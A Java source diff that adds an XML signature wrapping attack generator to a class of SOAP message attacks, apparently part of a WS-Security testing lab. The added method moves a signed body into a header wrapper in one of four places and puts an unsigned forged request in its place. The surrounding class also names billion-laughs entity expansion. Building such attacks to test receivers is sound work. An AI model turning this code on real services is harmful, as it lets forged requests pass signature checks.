@@ -4,6 +4,7 @@ import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
@@ -17,6 +18,7 @@ import org.w3c.dom.Document;
 import org.w3c.dom.Element;
 import org.w3c.dom.Node;
 import org.w3c.dom.NodeList;
+import org.wsslab.catalog.entity.Mechanism;
 
 /**
  * Attack messages made from a captured, valid request (its "control"): each alters exactly what its
@@ -29,6 +31,9 @@ public final class MessageAttacks {
 
     private static final Pattern BODY_START = Pattern.compile("<(?:[\\w.-]+:)?Body[\\s>/]");
     private static final Pattern BODY_END = Pattern.compile("</(?:[\\w.-]+:)?Body\\s*>");
+    private static final Pattern HEADER_START = Pattern.compile("<(?:[\\w.-]+:)?Header(?:\\s[^>]*)?>");
+    private static final Pattern HEADER_END = Pattern.compile("</(?:[\\w.-]+:)?Header\\s*>");
+    private static final Pattern SECURITY_END = Pattern.compile("</(?:[\\w.-]+:)?Security\\s*>");
     private static final Pattern BASE64_TEXT = Pattern.compile(">\\s*([A-Za-z0-9+/]{16,}={0,2})\\s*<");
     private static final Pattern XML_DECLARATION = Pattern.compile("^\\s*<\\?xml[^>]*\\?>");
     private static final Pattern ENVELOPE_START = Pattern.compile("<(?:[\\w.-]+:)?Envelope[\\s>]");
@@ -42,6 +47,31 @@ public final class MessageAttacks {
         /** Nested entities that expand exponentially ("billion laughs"), referenced in the body. */
         ENTITY_EXPANSION
     }
+
+    /** Where a signature-wrapping attack hides the signed body it replaces. */
+    public enum Wrapping {
+        /** In a new SOAP header block before all others (not mustUnderstand, so SOAP lets it pass); the new body has no Id. */
+        FIRST_HEADER_BLOCK("the signed body moved into a new first SOAP header block, an unsigned body in its place"),
+        /** As {@link #FIRST_HEADER_BLOCK}, the new body bearing the signed body's Id: a resolver taking the first match finds the moved one. */
+        FIRST_HEADER_BLOCK_SAME_ID("as before, the new body bearing the signed body's Id (the moved one comes first in the document)"),
+        /** In a new SOAP header block after all others, the WS-Security header included. */
+        LAST_HEADER_BLOCK("the signed body moved into a new last SOAP header block, an unsigned body in its place"),
+        /** Inside the WS-Security header, after its tokens and signatures. */
+        SECURITY_HEADER("the signed body moved into the WS-Security header, an unsigned body in its place");
+
+        private final String label;
+
+        Wrapping(String label) {
+            this.label = label;
+        }
+
+        public String label() {
+            return label;
+        }
+    }
+
+    /** The namespace of the element that holds the signed body in a wrapping attack. */
+    static final String WRAPPER_NAMESPACE = "urn:wsslab:attack";
 
     private MessageAttacks() {
     }
@@ -80,6 +110,42 @@ public final class MessageAttacks {
         char original = text.charAt(at);
         char altered = original == 'A' ? 'B' : 'A';
         return (text.substring(0, at) + altered + text.substring(at + 1)).getBytes(StandardCharsets.UTF_8);
+    }
+
+    /**
+     * An XML signature wrapping attack: the signed body, byte for byte, moved where the signature's
+     * reference still finds it ({@code wrapping}), and in the body's place an unsigned echo request
+     * carrying {@code payload}. A receiver that checks the signature's references but not that the
+     * body it hands on is the one they name runs the attacker's request. Every other byte is the control's.
+     */
+    public static byte[] withWrappedBody(byte[] request, Wrapping wrapping, byte[] payload) {
+        String text = new String(request, StandardCharsets.UTF_8);
+        Matcher start = BODY_START.matcher(text);
+        Matcher end = BODY_END.matcher(text);
+        if (!start.find() || !end.find(start.end())) {
+            throw new IllegalArgumentException("the request has no SOAP body");
+        }
+        String signedBody = text.substring(start.start(), end.end());
+        String openTag = text.substring(start.start(), text.indexOf('>', start.start()) + 1);
+        String closeTag = end.group();
+        String name = closeTag.substring(2, closeTag.length() - 1).strip();
+        String echo = "<e:echo xmlns:e=\"" + Mechanism.NAMESPACE + "\"><payload>" + Base64.getEncoder().encodeToString(payload)
+                + "</payload></e:echo>";
+        String attackerBody = (wrapping == Wrapping.FIRST_HEADER_BLOCK_SAME_ID ? openTag.replace("/>", ">") : "<" + name + ">") + echo + "</" + name + ">";
+        String withNewBody = text.substring(0, start.start()) + attackerBody + text.substring(end.end());
+
+        Matcher insertAt = switch (wrapping) {
+            case FIRST_HEADER_BLOCK, FIRST_HEADER_BLOCK_SAME_ID -> HEADER_START.matcher(withNewBody);
+            case LAST_HEADER_BLOCK -> HEADER_END.matcher(withNewBody);
+            case SECURITY_HEADER -> SECURITY_END.matcher(withNewBody);
+        };
+        if (!insertAt.find() || insertAt.start() > start.start()) {
+            throw new IllegalArgumentException("the request has no " + (wrapping == Wrapping.SECURITY_HEADER ? "WS-Security header" : "SOAP header")
+                    + " before its body to hide the signed body in");
+        }
+        int at = insertAt.pattern() == HEADER_START ? insertAt.end() : insertAt.start();
+        String wrapper = "<w:Wrapper xmlns:w=\"" + WRAPPER_NAMESPACE + "\">" + signedBody + "</w:Wrapper>";
+        return (withNewBody.substring(0, at) + wrapper + withNewBody.substring(at)).getBytes(StandardCharsets.UTF_8);
     }
 
     /** The request with a DOCTYPE of the given kind put before its envelope (and its entity in the body). */
